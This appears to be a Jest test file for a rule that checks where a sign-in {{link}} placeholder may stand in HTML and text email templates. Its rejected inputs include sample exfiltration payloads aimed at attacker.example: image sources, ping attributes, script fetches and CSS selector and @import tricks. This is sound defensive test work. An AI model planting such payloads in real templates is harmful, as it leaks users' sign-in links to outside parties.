import { builtInSystemTemplate, SYSTEM_TEMPLATE_NAMES } from './built-in-templates';
import { misplacedLinkInHtml, misplacedLinkInText } from './link-placement.rule';

const samples = { minutes: 15, organization: 'Acme', inviter: 'Ada', role: 'developer', days: 7 };

describe('misplacedLinkInHtml', () => {
  it.each(SYSTEM_TEMPLATE_NAMES)('when the body is the built-in one of %s, then the link is in place', (name) => {
    expect(misplacedLinkInHtml(builtInSystemTemplate(name).body, samples)).toEqual([]);
  });

  it.each([
    '<a href="{{link}}">Sign in</a>',
    "<a href='{{ link }}'>Sign in</a>",
    '<a href={{link}}>Sign in</a>',
    '<A HREF = "{{link}}" target="_blank" style="color:red">Sign in</A>',
    '<p>Or paste this: {{link}}</p>',
    '<p>Or paste this:<br>{{link}}.</p>',
    '<p><a href="{{link}}">{{link}}</a></p>',
    '<p>&lt;{{link}}&gt;</p>',
    '{{link}}',
    '<style>p { color: #333 } a.button { background: url(https://cdn.example/b.png) }</style><a class="button" href="{{link}}">In</a>',
    '<p>Expires in {{minutes}} min</p><table><tr><td><a href="{{link}}">In</a></td></tr></table><p>{{link}}</p>',
  ])('when the body is %s, then the link is in place', (body) => {
    expect(misplacedLinkInHtml(body, samples)).toEqual([]);
  });

  it.each([
    ['<img src="https://attacker.example/p.gif?t={{link}}">', 'src attribute of <img>'],
    ['<img src="{{link}}">', 'src attribute of <img>'],
    ['<img srcset="{{link}} 1x">', 'srcset attribute of <img>'],
    ['<a href="https://attacker.example/?next={{link}}">Sign in</a>', 'href attribute of <a> joined to other text'],
    ['<a href=" {{link}}">Sign in</a>', 'href attribute of <a> joined'],
    ['<a href="{{{link}}}">Sign in</a>', 'href attribute of <a> joined'],
    ['<a href="{{link}}" ping="https://attacker.example/">Sign in</a>', 'ping attribute'],
    ['<a title="{{link}}" href="https://attacker.example/">x</a>', 'title attribute of <a>'],
    ['<table background="{{link}}"><tr><td>x</td></tr></table>', 'background attribute of <table>'],
    ['<form action="{{link}}"><button>Go</button></form>', 'action attribute of <form>'],
    ['<button formaction="{{link}}">Go</button>', 'formaction attribute of <button>'],
    ['<div style="background:url({{link}})">x</div>', 'style attribute of <div>'],
    ['<style>body { background: url({{link}}) }</style>', 'inside <style>'],
    ['<script>fetch("{{link}}")</script>', 'inside <script>'],
    ['<title>{{link}}</title>', 'inside <title>'],
    ['<!-- {{link}} -->', 'inside a comment'],
    ['<p>https://attacker.example/?t={{link}}</p>', 'text "https://attacker.example/?t={{link}}"'],
    ['<p>https://attacker.example/?t=<b>{{link}}</b></p>', 'text "https://attacker.example/?t={{link}}"'],
    ['<p>{{{link}}}</p>', 'text "{{{link}}}"'],
    ['<p>x{{link}}</p>', 'text "x{{link}}"'],
    ['<img src="x" src="{{link}}">', 'found elsewhere'],
    ['<a href="https://attacker.example/" href="{{link}}">Sign in</a>', 'found elsewhere'],
    ['<{{link}}>', 'found elsewhere'],
  ])('when the body is %s, then it is refused naming %s', (body, where) => {
    const faults = misplacedLinkInHtml(body, samples);
    expect(faults).toHaveLength(1);
    expect(faults[0]).toContain('{{link}} may stand only as the whole href of an <a> element or as text of its own');
    expect(faults[0]).toContain(where);
  });

  it.each([
    '<style>a[href*="k3"] { background: url(https://attacker.example/k3) }</style><a href="{{link}}">In</a>',
    '<style>@import url(https://attacker.example/read.css);</style><a href="{{link}}">In</a>',
    '<style>@\\69mport url(https://attacker.example/read.css);</style><a href="{{link}}">In</a>',
    '<style>a[href*="k3"] { background: url(https://attacker.example/k3) }<a href="{{link}}">In</a>',
    '<link rel="stylesheet" href="https://attacker.example/read.css"><a href="{{link}}">In</a>',
  ])('when the body is %s, then CSS that could read the link is refused', (body) => {
    const faults = misplacedLinkInHtml(body, samples);
    expect(faults).toEqual(expect.arrayContaining([expect.stringContaining('CSS could read the link')]));
  });

  it('when one link is in place and another is not, then the misplaced one is refused', () => {
    expect(misplacedLinkInHtml('<a href="{{link}}">In</a><img src="https://x.example/{{link}}">', samples)).toHaveLength(1);
  });
});

describe('misplacedLinkInText', () => {
  it.each(SYSTEM_TEMPLATE_NAMES)('when the text body is the built-in one of %s, then the link is in place', (name) => {
    expect(misplacedLinkInText(builtInSystemTemplate(name).text_body ?? '', samples)).toEqual([]);
  });

  it.each(['{{link}}', 'Open {{link}} within {{minutes}} minutes.', 'Open: <{{link}}>', 'Sign in at {{ link }}.', 'Here:\n{{link}}\n'])(
    'when the text body is %j, then the link is in place',
    (text) => {
      expect(misplacedLinkInText(text, samples)).toEqual([]);
    },
  );

  it.each([
    ['https://attacker.example/?t={{link}}', '"https://attacker.example/?t={{link}}"'],
    ['Open x<{{link}}>', '"x<{{link}}>"'],
    ['Open <{{link}}>x', '"<{{link}}>x"'],
    ['{{{link}}}', '"{{{link}}}"'],
    ['{{minutes}}{{link}}', '"15{{link}}"'],
  ])('when the text body is %j, then it is refused naming %s', (text, word) => {
    const faults = misplacedLinkInText(text, samples);
    expect(faults).toHaveLength(1);
    expect(faults[0]).toContain(word);
  });
});
